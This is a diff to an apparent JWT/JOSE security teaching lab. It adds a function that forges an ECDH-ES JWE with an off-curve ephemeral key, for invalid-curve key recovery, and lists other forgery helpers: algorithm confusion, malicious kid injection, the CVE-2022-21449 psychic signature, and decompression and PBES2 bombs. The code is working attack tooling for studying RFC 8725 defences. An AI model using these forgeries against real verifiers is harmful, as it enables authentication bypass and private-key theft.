@@ -14,8 +14,8 @@ What is here, by RFC 8725 section:
   public key as the HMAC secret (§2.1, §3.1), a ``jwk`` / ``jku`` / ``x5u`` header that hands the
   verifier the attacker's key (§3.10), ``kid`` values built for SQL injection and path traversal
   (§2.9, §3.10), a dictionary attack on an HMAC secret (§2.2, §3.5), an ECDSA signature with
-  r = s = 0 (CVE-2022-21449; §3.3, §3.4), a JWE decompression bomb (§3.6) and a huge PBES2 ``p2c``
-  (RFC 8725bis);
+  r = s = 0 (CVE-2022-21449; §3.3, §3.4), a JWE decompression bomb (§3.6), a huge PBES2 ``p2c``
+  (RFC 8725bis) and an ECDH-ES JWE whose ephemeral key is not on the curve (§2.5, §3.4);
 * :class:`AttackerHost`, the attacker's own server on the demo :class:`~joselab.parties.Network`
   (127.0.0.1 like every party), serving the attacker's JWK Set and a self-signed certificate;
 * :func:`build_confusion_matrix`: one valid token of each kind in the book (software statement,
@@ -57,7 +57,7 @@ from jwcrypto.jwa import JWA
 from .access_token import AccessTokenValidator, AuthorizationServer, JwksCache
 from .claims import with_changes
 from .clock import DEMO_EPOCH, Clock, DemoIds, FixedClock, IdSource
-from .compact import b64url_encode, decode_unverified
+from .compact import b64url_decode, b64url_encode, decode_unverified
 from .id_token import ClientRegistration, IdTokenValidator, OpenIDProvider
 from .jws import encode_claims, encode_header
 from .keys import DemoKey, as_jwk, demo_key, load_jwks, public_jwks
@@ -99,6 +99,7 @@ __all__ = [
     "forge_psychic_signature",
     "forge_public_key_as_hmac_secret",
     "forge_unsigned",
+    "invalid_curve_jwe",
     "load_wordlist",
     "measure",
     "naive_decrypt",
@@ -289,6 +290,27 @@ def pbes2_p2c_bomb(p2c: int, *, alg: str = "PBES2-HS256+A128KW", enc: str = "A12
     header = {"alg": alg, "enc": enc, "p2s": b64url_encode(b"joselab-p2s-demo"), "p2c": p2c}
     filler = (bytes(24), bytes(12), bytes(16), bytes(16))  # wrapped CEK, IV, ciphertext, tag
     return ".".join([encode_header(header), *(b64url_encode(part) for part in filler)])
+
+
+def invalid_curve_jwe(
+    recipient: jwk.JWK | DemoKey, plaintext: bytes = b'{"probe":1}', *, alg: str = "ECDH-ES+A256KW", enc: str = "A256GCM"
+) -> str:
+    """A compact ECDH-ES JWE to ``recipient`` (an EC key) whose ``epk`` is not on the key's curve: its
+    ``y`` is moved by one, so the point lies on another curve with the same ``a`` and a different
+    ``b``. The ECDH formulas never use ``b``, so a recipient that does not check the point computes on
+    that other curve; with points of small order there, the attacker learns the private key piece by
+    piece from which probes decrypt (the invalid-curve attack, RFC 8725 §2.5; the defence is §3.4)."""
+    key = as_jwk(recipient)
+    public = jwk.JWK(**key.export_public(as_dict=True))
+    token = jwe.JWE(plaintext, protected=json.dumps({"alg": alg, "enc": enc, "kid": public.get("kid")}))
+    token.allowed_algs = [alg, enc]
+    token.add_recipient(public)
+    head, *rest = token.serialize(compact=True).split(".")
+    header = json.loads(b64url_decode(head))
+    epk = dict(header["epk"])
+    y = b64url_decode(epk["y"])
+    epk["y"] = b64url_encode(((int.from_bytes(y, "big") + 1) % (1 << (8 * len(y)))).to_bytes(len(y), "big"))
+    return ".".join([encode_header({**header, "epk": epk}), *rest])
 
 
 # ------------------------------------------------------------------------------------------------
